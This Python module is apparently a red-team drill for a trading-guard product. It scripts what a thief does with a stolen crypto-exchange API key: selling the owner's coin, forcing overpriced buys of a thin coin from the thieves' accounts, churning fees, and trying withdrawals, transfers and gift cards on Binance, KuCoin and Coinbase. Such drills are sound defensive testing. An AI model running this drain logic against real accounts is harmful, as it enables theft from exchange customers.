"""One theft, step by step: what a thief does with a stolen credential, and what he tries where that
is refused."""

import asyncio
from collections.abc import Awaitable, Callable, Sequence
from typing import Any, NamedTuple

import ccxt.async_support as ccxt
import msgspec

from tradelatch.drills.ccxt_client import buy_for, cancel_all, message, patiently, place
from tradelatch.drills.script import Credentials, tell

THIEF = "thieves"
SLICES = 8
"""Orders at once, of either side."""
FAIR_TRIES = 6
CHURNED = 0.084
"""What is bought and sold for nothing but the cost, as a share of the account."""
_DOORS: dict[str, Sequence[tuple[str, Callable[[Any], Awaitable[Any]]]]] = {
    "binance": (
        (
            "transfer",
            lambda client: client.sapi_post_asset_transfer(
                {"type": "MAIN_FUNDING", "asset": "BTC", "amount": 1}
            ),
        ),
        (
            "gift card",
            lambda client: client.sapi_post_giftcard_createcode({"token": "BTC", "amount": 1}),
        ),
    ),
    "kucoin": (("transfer", lambda client: client.transfer("BTC", 1, "trade", "main")),),
    "coinbase": (("transfer", lambda client: client.transfer("BTC", 1, "his", "theirs")),),
}
"""By which value can leave an account besides orders and withdrawals, at each exchange."""


class Victim(msgspec.Struct, frozen=True):
    """A stolen credential. `take` is how much (quote) the account is to spend in all, in so many
    `rounds`, and `churns` how often it may be churned where nothing else helps; `deep` is the
    market in which its liquid coin is sold. `step_by_step` tells every step, and not the sum."""

    name: str
    account: Credentials
    deep: str
    worth: float
    take: float
    rounds: int
    churns: int
    step_by_step: bool


class Scheme(NamedTuple):
    """What the thieves work with: clients of their own accounts, the thin market, how many times
    the price there they ask, and how many seconds an hour is."""

    own: list[Any]
    thin: str
    markup: float
    hour_s: float


class Theft:
    """One customer, step by step."""

    def __init__(self, victim: Victim, client: Any, scheme: Scheme) -> None:
        self._of, self._victim = victim, client
        self._own, self._thin, self._markup, self._hour_s = scheme
        self._refusals: list[str] = []

    async def run(self) -> None:
        """All steps; the later ones only if the first did not get them what they are after."""
        if not await self._sell_liquid():
            return
        left, rounds = self._of.take, 0
        # What the market's own makers offer is cheap, so that a round may fall short.
        while rounds < 2 * self._of.rounds:
            rounds += 1
            part = min(left, self._of.take / self._of.rounds)
            spent = await self._contra(self._markup, part)
            left -= spent
            if not spent or left < self._of.take / 50:
                break
            await asyncio.sleep(self._hour_s / 2)
        spent = self._of.take - left
        if spent:
            self._tell(f"bought {self._thin} for {spent:.4f} BTC in {rounds} rounds")
        else:
            await self._make_do(left)
        if not self._of.step_by_step:
            self._tell_refusals()

    async def _make_do(self, left: float) -> None:
        """What else the credential may do, one thing after another."""
        await self._offer_fairly(left)
        for step in (self._far_off_the_market, self._churn, self._other_doors):
            await asyncio.sleep(self._hour_s / 4)
            await step()
            if self._of.step_by_step:
                self._tell_refusals()

    async def _sell_liquid(self) -> bool:
        """Cancel what the owner has open and sell his liquid coin at market, in parts; whether
        the credential still opens the account.

        Half of them are marked as exits, which draw on another amount behind the gate.
        """
        base = self._of.deep.split("/")[0]
        await cancel_all(self._victim, self._of.deep)
        balance = await self._try(patiently(self._victim.fetch_balance), "look")
        if balance is None:
            self._tell_refusals()
            return False
        held = balance["free"].get(base, 0)
        sold = 0.0
        for number in range(4):
            mark = {"clientOrderId": f"exit-{number}"} if number % 2 else None
            order = await self._order(
                self._victim, self._of.deep, "market", "sell", held / 4, None, mark
            )
            sold += (order or {}).get("filled") or 0
            await asyncio.sleep(self._hour_s / 4)
        if self._of.step_by_step:
            self._tell(f"sold {sold:.4f} of the victim's {held:.4f} {base}", refused=not sold)
        return True

    async def _contra(self, times: float, money: float) -> float:
        """Offer at so many times what others bid now, from both own accounts, and make the victim
        buy, many orders at once."""
        thin = self._thin
        price = (await patiently(self._own[0].fetch_ticker, thin))["bid"] * times
        part = money / price / SLICES
        sellers = [self._own[number % len(self._own)] for number in range(SLICES)]
        offers = [self._order(own, thin, "limit", "sell", part, price) for own in sellers]
        resting = [order for order in await asyncio.gather(*offers) if order]
        buys = [self._order(self._victim, thin, "limit", "buy", part, price) for _ in range(SLICES)]
        spent = sum((order or {}).get("cost") or 0 for order in await asyncio.gather(*buys))
        offered = f"{len(resting)} offers in {thin} at {price:.8f}"
        if self._of.step_by_step:
            self._tell(f"bought for {spent:.4f} from {offered}", refused=not spent)
            self._tell_refusals()
        if not spent and resting:
            for own in self._own:
                await cancel_all(own, thin)
        return float(spent)

    async def _offer_fairly(self, money: float) -> None:
        """Worthless coins at a fair price: for less and less, until some of it is let through."""
        for _ in range(FAIR_TRIES if self._of.step_by_step else 1):
            spent = await self._contra(1.005, money)
            money = money - spent if spent else money / 4

    async def _far_off_the_market(self) -> None:
        """Orders on the deep market so far off that only a bid of their own would take them."""
        ticker = await patiently(self._own[0].fetch_ticker, self._of.deep)
        amount = self._of.worth * 0.0003 / ticker["bid"]
        for factor in (0.5, 0.8, 0.9):
            price = ticker["bid"] * factor
            await self._order(self._victim, self._of.deep, "limit", "sell", amount, price)
        for factor in (1.1, 1.5):
            price = ticker["ask"] * factor
            await self._order(self._victim, self._of.deep, "limit", "buy", amount, price)

    async def _churn(self) -> None:
        """Burn fees and spread: buy and sell the deep coin until that is refused."""
        rounds, deep = 0, self._of.deep
        for _ in range(self._of.churns):
            await self._until_narrow()
            buying = buy_for(self._victim, deep, self._of.worth * CHURNED)
            bought = await self._try(buying, f"buy {deep}")
            if bought is None:
                break
            rounds += 1
            # Less than was filled: the fee was taken from the coin, and the owner's bot goes on
            # placing orders, which hold some.
            coins = (bought["filled"] or 0) * 0.94
            await cancel_all(self._victim, deep)
            if coins and not await self._order(self._victim, deep, "market", "sell", coins):
                break
        if self._of.step_by_step:
            self._tell(f"churned {deep} {rounds} times", refused=rounds < self._of.churns)

    async def _until_narrow(self) -> None:
        """Wait for the makers to come back: in a swept book the guard sees no deep market."""
        for _ in range(20):
            ticker = await patiently(self._own[0].fetch_ticker, self._of.deep)
            await asyncio.sleep(0.3)  # so that the signer has seen it too
            if ticker["ask"] <= ticker["bid"] * 1.002:
                break

    async def _other_doors(self) -> None:
        """Everything else by which value could leave the victim's account."""
        await self._try(self._victim.withdraw("BTC", 1, "thief"), "withdraw")
        for what, call in _DOORS[self._victim.id]:
            await self._try(call(self._victim), what)

    async def _order(
        self,
        client: Any,
        symbol: str,
        kind: str,
        side: str,
        amount: float,
        price: float | None = None,
        extra: dict[str, str] | None = None,
    ) -> Any:
        """ccxt's order, None if it was refused."""
        limit = client.price_to_precision(symbol, price) if price else None
        try:
            amount = client.amount_to_precision(symbol, amount)
        except ccxt.InvalidOrder:
            return None  # nothing is left of that coin
        made = place(client, symbol, kind, side, amount, limit, extra)
        return await self._try(made, f"{side} {symbol}")

    async def _try(self, call: Awaitable[Any], what: str) -> Any:
        try:
            return await call
        except ccxt.BaseError as error:
            self._refusals.append(f"{what}: {message(error)}")
            return None

    def _tell_refusals(self) -> None:
        """One line for a whole volley that was refused alike."""
        if self._refusals:
            more = f" (and {len(self._refusals) - 1} more)" if len(self._refusals) > 1 else ""
            self._tell(f"{self._refusals[0][:400]}{more}", refused=True)
        self._refusals.clear()

    def _tell(self, says: str, *, refused: bool = False) -> None:
        tell(THIEF, f"{self._of.name}: {says}", refused=refused)
